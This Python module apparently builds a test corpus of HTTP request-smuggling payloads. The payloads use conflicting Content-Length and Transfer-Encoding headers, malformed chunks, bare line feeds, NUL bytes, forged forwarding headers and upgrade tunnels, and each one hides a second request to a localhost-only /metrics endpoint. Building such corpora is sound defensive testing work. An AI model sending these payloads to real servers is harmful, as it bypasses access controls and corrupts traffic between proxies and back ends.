"""Requests that two programs may read differently, so that one's body is the other's next request.

Each hides a request of its own that only a program on the tracker's machine may make.
"""

from __future__ import annotations

HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
_OPEN = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Ignore: "  # takes the beginning of the next one into a header
_BODIES = {"whole": HIDDEN, "open": _OPEN}


def _request(first: bytes, *lines: bytes, body: bytes = b"") -> bytes:
    return b"".join(line + b"\r\n" for line in (first, b"Host: localhost", *lines, b"")) + body


def _lengths(body: bytes) -> dict[str, tuple[bytes, ...]]:
    """Return ambiguous headers for the length of this body."""
    said = str(len(body)).encode()
    return {
        "a body": (b"Content-Length: " + said,),
        "two lengths": (b"Content-Length: 0", b"Content-Length: " + said),
        "two lengths in a line": (b"Content-Length: 0, " + said,),
        "a length with a sign": (b"Content-Length: +" + said,),
        "a length in hexadecimal": (b"Content-Length: 0x%x" % len(body),),
        "a length with a tab": (b"Content-Length:\x0b" + said,),
        "a length after a space": (b"Content-Length : " + said,),
        "a length in a folded line": (b"X-Ignore: x", b" Content-Length: " + said),
        "a length of the hop": (b"Connection: keep-alive, Content-Length", b"Content-Length: " + said),
        "a length with an underscore": (b"Content_Length: " + said,),
        "a body that waits": (b"Expect: 100-continue", b"Content-Length: " + said),
    }


_CODINGS = {
    "a coding": (b"Transfer-Encoding: chunked",),
    "another coding": (b"Transfer-Encoding: xchunked",),
    "two codings": (b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"),
    "two codings in a line": (b"Transfer-Encoding: identity, chunked",),
    "a coding after a space": (b"Transfer-Encoding : chunked",),
    "a coding after a tab": (b"Transfer-Encoding:\x0bchunked",),
    "a coding in a folded line": (b"X-Ignore: x", b" Transfer-Encoding: chunked"),
    "a coding on the next line": (b"Transfer-Encoding:", b" chunked"),
    "a coding after a bare line feed": (b"X-Ignore: x\nTransfer-Encoding: chunked",),
    "a coding after a bare carriage return": (b"X-Ignore: x\rTransfer-Encoding: chunked",),
    "a coding after a NUL": (b"X-Ignore: x\0Transfer-Encoding: chunked",),
    "a coding of the hop": (b"Connection: Transfer-Encoding", b"Transfer-Encoding: chunked"),
    "a coding with an underscore": (b"Transfer_Encoding: chunked",),
    "a coding in quotes": (b'Transfer-Encoding: "chunked"',),
}
_UPGRADE = (b"Connection: Upgrade", b"Upgrade: websocket")
_KEY = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
_TUNNELS = {
    "of no version": (b"/ws", *_UPGRADE, _KEY),
    "of a wrong version": (b"/ws", *_UPGRADE, _KEY, b"Sec-WebSocket-Version: 777"),
    "without a key": (b"/ws", *_UPGRADE, b"Sec-WebSocket-Version: 13"),
    "where none is": (b"/health", *_UPGRADE, _KEY, b"Sec-WebSocket-Version: 13"),
    "of another site": (b"/ws", *_UPGRADE, _KEY, b"Sec-WebSocket-Version: 13", b"Origin: https://evil.example"),
    "without a name": (b"/ws/chat/room/", *_UPGRADE, _KEY, b"Sec-WebSocket-Version: 13"),
    "with a body": (b"/ws", *_UPGRADE, _KEY, b"Sec-WebSocket-Version: 13", b"Content-Length: %d" % len(HIDDEN)),
    "to HTTP/2": (b"/health", b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk"),
}


def _bodies() -> dict[str, bytes]:
    found = {}
    for how, body in _BODIES.items():
        for method in (b"GET", b"HEAD", b"POST", b"OPTIONS"):
            for name, lines in _lengths(body).items():
                found[f"{method.decode()}: {name} ({how})"] = _request(method + b" /health HTTP/1.1", *lines, body=body)
        for name, lines in _CODINGS.items():
            chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
            length = b"Content-Length: %d" % len(b"0\r\n\r\n" + body)
            for method in (b"GET", b"POST"):
                first = method + b" /health HTTP/1.1"
                key = f"{method.decode()}: {name} ({how})"
                found[key] = _request(first, *lines, body=chunk)
                found[f"{key}, and a length"] = _request(first, length, *lines, body=b"0\r\n\r\n" + body)
                found[f"{key}, and a short length"] = _request(first, *lines, b"Content-Length: 4", body=chunk)
    return found


def _chunks() -> dict[str, bytes]:
    ways = {
        "an extension": b"1;x=y\r\nx\r\n0\r\n\r\n",
        "an extension with a bare line feed": b"1;x\nx\r\n0\r\n\r\n",
        "an extension with a bare carriage return": b"1;x\rx\r\n0\r\n\r\n",
        "a trailer": b"0\r\nHost: evil.example\r\nContent-Length: 5\r\n\r\n",
        "bare line feeds": b"0\n\n",
        "a negative chunk": b"-1\r\nx\r\n0\r\n\r\n",
        "a huge chunk": b"ffffffffffffffff0\r\nx\r\n0\r\n\r\n",
    }
    head = b"POST /health HTTP/1.1", b"Transfer-Encoding: chunked"
    return {f"chunks: {name}": _request(*head, body=body + HIDDEN) for name, body in ways.items()}


def _heads() -> dict[str, bytes]:
    hidden = HIDDEN.rstrip()
    return {
        "HTTP/1.0 that stays": _request(b"GET /health HTTP/1.0", b"Connection: keep-alive", body=HIDDEN),
        "HTTP/0.9": b"GET /health\r\n" + HIDDEN,
        "an empty line before": b"\r\n" + HIDDEN,
        "a line feed in the path": b"GET /health%0d%0a%0d%0aGET%20/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "a bare line feed at the end": b"GET /health HTTP/1.1\nHost: localhost\n\n" + HIDDEN,
        "a bare line feed in a header": _request(b"GET /health HTTP/1.1", b"X: y\n\n" + hidden),
        "a bare carriage return in a header": _request(b"GET /health HTTP/1.1", b"X: y\r\r" + hidden),
        "a NUL in a header": _request(b"GET /health HTTP/1.1", b"X: y\0\r\n" + hidden),
        "a header without a name": _request(b"GET /health HTTP/1.1", b": y", body=HIDDEN),
        "a whole address": b"GET http://localhost/health HTTP/1.1\r\nHost: evil.example\r\n\r\n" + HIDDEN,
        "another's whole address": b"GET http://evil.example/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
        "two hosts": b"GET /health HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n" + HIDDEN,
        "who it is, of the hop": _request(b"GET /metrics HTTP/1.1", b"Connection: X-Forwarded-For, X-Forwarded-Proto"),
        "who it is, with an underscore": _request(b"GET /metrics HTTP/1.1", b"X_Forwarded_For: 127.0.0.1"),
        "who it is, made up": _request(b"GET /metrics HTTP/1.1", b"X-Forwarded-For: 127.0.0.1", b"X-Real-IP: ::1"),
    }


CORPUS = {
    **_bodies(),
    **_chunks(),
    **_heads(),
    **{
        f"a tunnel {name}": _request(b"GET " + path + b" HTTP/1.1", *lines, body=HIDDEN)
        for name, (path, *lines) in _TUNNELS.items()
    },
}
"""All requests, by what they try."""
